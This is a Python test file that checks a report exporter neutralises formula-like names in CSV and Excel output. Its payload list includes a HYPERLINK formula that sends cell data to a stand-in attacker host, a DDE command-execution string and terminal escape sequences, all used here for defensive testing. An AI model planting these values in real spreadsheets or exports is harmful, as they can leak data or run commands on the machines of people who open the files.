"""Report files and hostile names: a clerk or item called like a formula is text in Excel."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from models.reports.files import csv_text, write_csv, write_xlsx
from models.reports.report import Report, ReportRow

DAY = dt.date(2026, 11, 25)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "王芳\x1b[2J\x07",
]


def hostile_report() -> Report:
    rows = [
        ReportRow(key=str(n), label_zh=label, label_en=label, issued=n + 1, wait_mean=-1.5)
        for n, label in enumerate(HOSTILE)
    ]
    return Report(
        by="clerk", start=DAY, end=DAY, today=DAY, rows=rows,
        total=ReportRow(key="", label_zh="合计", label_en="total", issued=28),
    )  # fmt: skip


def test_xlsx_has_no_formula_and_names_read_as_typed(tmp_path: Path) -> None:
    target = tmp_path / "r.xlsx"
    write_xlsx(hostile_report(), target)
    sheet = load_workbook(target)["报表 Report"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    labels = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert labels[0] == "'" + HOSTILE[0] and labels[1] == "'@SUM(1)"
    assert labels[6] == "王芳\\x1b[2J\\x07"  # visible, and openpyxl did not refuse the cell
    figures = [row[1].value for row in sheet.iter_rows(min_row=3)]
    assert figures[:2] == [1, 2] and all(isinstance(n, int) for n in figures)  # still numbers
    first_row = [cell.value for cell in next(sheet.iter_rows(min_row=3, max_row=3))]
    assert -1.5 in first_row  # a negative figure (the mean wait) stays a number


@pytest.mark.parametrize("to_file", [False, True], ids=["stdout", "file"])
def test_csv_cells_that_would_be_formulas_start_with_a_quote(tmp_path: Path, to_file: bool) -> None:
    if to_file:
        write_csv(hostile_report(), tmp_path / "r.csv")
        data = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    else:
        data = csv_text(hostile_report())
    rows = list(csv.reader(io.StringIO(data)))[1:]
    labels = [row[0] for row in rows]
    for label in labels[:6]:
        assert label.startswith("'"), label
    assert "\x1b" not in data and "\t" not in data
    assert labels[-1] == "合计" and rows[0][1] == "1"
